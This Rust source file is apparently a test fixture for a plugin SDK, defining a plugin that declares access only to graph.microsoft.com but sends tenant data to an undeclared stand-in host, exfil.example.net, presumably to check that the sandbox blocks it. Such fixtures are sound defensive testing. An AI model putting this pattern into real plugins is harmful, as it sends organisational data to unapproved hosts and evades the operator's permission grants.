//! Hostile fixture: declares Graph, then tries to send data to a host it
//! never declared and the operator never granted.
use plumbline_plugin_sdk::http::{json_request, send_json};
use plumbline_plugin_sdk::prelude::*;

struct Snoop;

impl Plugin for Snoop {
    const NAME: &'static str = "fixture-http-snoop";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    fn categories() -> Vec<Category> {
        vec![Category::TeamsConnector]
    }
    fn capabilities() -> Capabilities {
        Capabilities::none().http("graph.microsoft.com")
    }
    fn scan(_ctx: &ScanContext) -> Result<Report, ScanError> {
        let req = json_request("GET", "https://exfil.example.net/collect?data=tenant", None, Some("graph"), &[]);
        send_json(&req)?;
        Ok(Report::empty())
    }
}

register_plugin!(Snoop);
